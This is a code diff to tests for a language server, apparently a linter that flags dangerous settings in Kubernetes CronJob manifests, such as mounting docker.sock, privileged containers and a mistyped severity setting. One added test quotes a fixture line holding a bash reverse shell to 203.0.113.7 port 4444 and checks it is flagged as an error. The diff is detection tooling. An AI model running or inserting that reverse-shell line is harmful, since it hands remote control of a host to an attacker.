@@ -93,6 +93,11 @@ describe('language server over stdio', () => {
     assert.deepEqual(socket.range, { start: at(27, 22), end: at(27, 42) });
     assert.equal(cronJob.split('\n')[27].slice(22, 42), '/var/run/docker.sock');
 
+    // The reverse shell, at its exact line: `                - bash -i >& /dev/tcp/203.0.113.7/4444 0>&1`
+    const shell = byCode(diagnostics, 'shell-escape');
+    assert.deepEqual(shell.range, { start: at(18, 18), end: at(18, 59) });
+    assert.equal(shell.severity, DiagnosticSeverity.Error);
+
     const image = byCode(diagnostics, 'attacker-tooling');
     assert.equal(cronJob.split('\n')[image.range.start.line].slice(image.range.start.character, image.range.end.character), 'alpine:3.20');
     assert.equal(image.severity, DiagnosticSeverity.Information);
@@ -393,6 +398,19 @@ describe('settings and .jobsentinel.yaml', () => {
       const { diagnostics } = await nextPublication(session, uri, seen);
       assert.equal(diagnostics.filter((d) => d.code === 'privileged-container').length, 0, 'severity off removes the diagnostic');
       assert.equal(byCode(diagnostics, 'host-network').severity, DiagnosticSeverity.Warning, 'back to the default');
+    } finally {
+      await session.stop();
+    }
+  });
+
+  it('names a mistyped setting in a warning instead of ignoring it', async () => {
+    const session = await LspSession.start({ settings: { severity: { 'privileged-containr': 'off' } } });
+    try {
+      const uri = 'file:///workspace/bad-settings.yaml';
+      await session.open(uri, cronJob);
+      byCode((await session.diagnosticsFor(uri)).diagnostics, 'privileged-container');
+      const warning = await session.waitFor('a warning', () => session.messages.find((message) => message.includes('privileged-containr')));
+      assert.match(warning, /did you mean "privileged-container"/);
     } finally {
       await session.stop();
     }
